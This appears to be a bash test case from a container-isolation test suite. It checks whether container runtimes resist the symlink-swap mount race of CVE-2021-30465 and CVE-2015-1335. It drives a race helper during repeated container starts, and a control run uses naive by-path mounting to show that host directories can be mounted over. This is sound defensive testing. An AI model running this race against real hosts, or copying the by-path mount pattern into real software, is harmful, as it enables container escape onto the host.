# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034

# What is mounted over in the tree is a directory at one moment and a link to the host's at the next, hundreds of times during a start.
WHAT='CVE-2021-30465, 2015-1335: mount targets of the tree are swapped for links to the host while it starts'
MAY_REFUSE=yes
OPTIONS_nbox=(--bind="$PREY/shared:/mnt/a" --tmpfs=/mnt/b)
OPTIONS_nspawn=("${OPTIONS_nbox[@]}")
OPTIONS_lxc=("lxc.mount.entry = $PREY/shared mnt/a none bind,create=dir 0 0" "lxc.mount.entry = tmpfs mnt/b tmpfs create=dir 0 0")
STARTS=8
TARGETS='mnt proc sys dev run tmp'

setup() {
        mkdir -p "$PREY/shared" "$PREY/out"/{a,b,pts,mqueue,shm,fs,host,sys}
        local target
        mkdir -p "$TREE/mnt/a" "$TREE/mnt/b"
        for target in $TARGETS; do
                mkdir -p "$TREE/$target"
                ln -sfn "$PREY/out" "$TREE/$target.link"
        done
        awk '{ print $5 }' /proc/self/mountinfo | sort >"$PREY/mounts"
        find "$PREY/out" | sort >"$PREY/files"
}

mounts() { { cat /proc/[0-9]*/mountinfo 2>/dev/null || true; } | awk -v prey="$PREY/out" 'index($5, prey) == 1 { print $5 }' | sort -u; }

# So many starts beside the swapping. A mount of the host's directory shows in the mount namespace of who made it, even where that is private.
play() {
        local i swapper seen=''
        "$ATTACKS/exchange" "$TREE" $TARGETS &
        swapper=$!
        for i in $(seq "$STARTS"); do
                if machine_start; then
                        seen="$seen $(mounts)"
                        machine_stop
                fi
        done
        kill "$swapper"
        wait "$swapper" 2>/dev/null || true
        find "$PREY/out" | sort >"$PREY/files.after"
        seen=$(xargs -n 1 <<<"$seen" | sort -u)
        if ! cmp -s "$PREY/files" "$PREY/files.after"; then
                works "the host's directory has got $(comm -13 "$PREY/files" "$PREY/files.after" | paste -sd ' ')"
        elif [ -n "$seen" ]; then
                works "mounted over the host's $(paste -sd ' ' <<<"$seen")"
        else
                blocked "$STARTS starts, nothing of the host's was mounted over or written"
        fi
}

# Mounting by path, as everybody once did.
control() {
        local swapper i
        "$ATTACKS/exchange" "$TREE" mnt &
        swapper=$!
        for i in $(seq 2000); do
                unshare --mount sh -c "[ ! -L '$TREE/mnt' ] && mount -t tmpfs tmpfs '$TREE/mnt/b'; grep -q '$PREY/out/b' /proc/self/mountinfo" && break
        done
        kill "$swapper"
        wait "$swapper" 2>/dev/null || true
        if [ "$i" -lt 2000 ]; then works "start $i mounted over the host's"; else blocked "2000 times by path"; fi
}
